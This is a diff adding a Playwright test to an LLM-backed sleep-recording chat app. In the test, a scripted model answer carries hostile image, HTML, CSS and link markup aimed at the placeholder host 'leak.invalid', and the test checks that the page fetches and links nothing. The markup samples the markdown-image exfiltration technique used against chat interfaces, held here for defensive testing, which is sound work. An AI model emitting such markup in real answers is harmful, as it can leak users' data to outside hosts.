@@ -289,3 +289,49 @@ def test_an_idle_session_expires_and_its_folder_is_deleted(small_edf, tmp_path, 
         page.fill("#question textarea", "how long is the recording?")
         page.press("#question textarea", "Enter")
         expect(page.locator(".toast-body")).to_contain_text("Load a recording first", timeout=30_000)
+
+
+LEAK_HOST = "leak.invalid"
+HOSTILE_MARKUP = (
+    f" ![x](http://{LEAK_HOST}/md-image?q=AHI) <img src=\"http://{LEAK_HOST}/html-image\"> "
+    f"[details](http://{LEAK_HOST}/link) <http://{LEAK_HOST}/autolink> http://{LEAK_HOST}/bare "
+    f"<iframe src=\"http://{LEAK_HOST}/frame\"></iframe> <div style=\"background:url(http://{LEAK_HOST}/css)\">x</div> "
+    f"<video poster=\"http://{LEAK_HOST}/poster\"></video> ![y][r]\n\n[r]: http://{LEAK_HOST}/reference"
+)
+
+
+def test_answer_markup_triggers_no_request(scenario, tmp_path):
+    """An answer (and its streamed draft) carrying image, HTML and link markup fetches nothing and links nowhere."""
+    from playwright.sync_api import expect
+
+    path, question, tool, *_ = scenario
+
+    def factory():
+        return ScriptedChatModel(messages=iter([call("list_events", kind="respiratory"),
+                                                lambda messages: quote_events(messages) + HOSTILE_MARKUP]),
+                                 seen=[], tools_offered=[])
+
+    requested = []
+
+    def guard(route):
+        requested.append(route.request.url)
+        if route.request.url.startswith(("http://127.0.0.1", "http://localhost")):
+            route.continue_()
+        else:
+            route.abort()
+
+    demo = app.build_app(llm_factory=factory, session_root=tmp_path / "sessions", preload=path)
+    with served(demo) as url, chromium_page(viewport={"width": 1280, "height": 900}) as page:
+        page.route("**/*", guard)
+        page.goto(url, wait_until="load")
+        expect(page.locator("#night-status")).to_contain_text("epochs of 30 s", timeout=120_000)
+        page.fill("#question textarea", question)
+        page.press("#question textarea", "Enter")
+        answer = page.locator("#chat .message.bot").last
+        expect(answer).to_contain_text(re.compile(r"Respiration looked abnormal \d+ times"), timeout=90_000)
+        expect(answer).to_contain_text("(image removed)")
+        page.wait_for_timeout(2000)  # time for any fetch the markup would start
+        chat = page.locator("#chat")
+        assert chat.locator(f"[src*='{LEAK_HOST}'], [href*='{LEAK_HOST}'], [poster*='{LEAK_HOST}'], iframe, video").count() == 0
+        assert LEAK_HOST not in chat.inner_html()
+    assert requested and not [u for u in requested if LEAK_HOST in u]
